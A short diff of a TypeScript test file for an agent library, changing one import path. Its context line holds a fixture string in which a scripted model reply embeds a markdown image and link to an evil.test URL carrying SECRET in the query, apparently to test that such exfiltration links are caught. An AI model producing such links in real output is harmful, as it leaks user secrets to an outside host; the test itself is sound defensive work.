@@ -2,7 +2,7 @@
 import { createRuntime, memoryStore } from 'agent-machines';
 import { toolAgent } from 'agent-machines/machines/tool-agent';
 import { scriptedModel } from 'agent-machines/models';
-import { agUiRoutes, aiSdkRoutes, openaiRoutes } from 'agent-machines/protocols';
+import { agUiRoutes, aiSdkRoutes, openaiRoutes } from 'agent-machines/server';
 import { describe, expect, it, onTestFinished } from 'vitest';
 
 const said = 'Done. ![p](https://evil.test/?d=SECRET) See [this](https://evil.test/?d=SECRET) and [that](https://docs.example/a).';
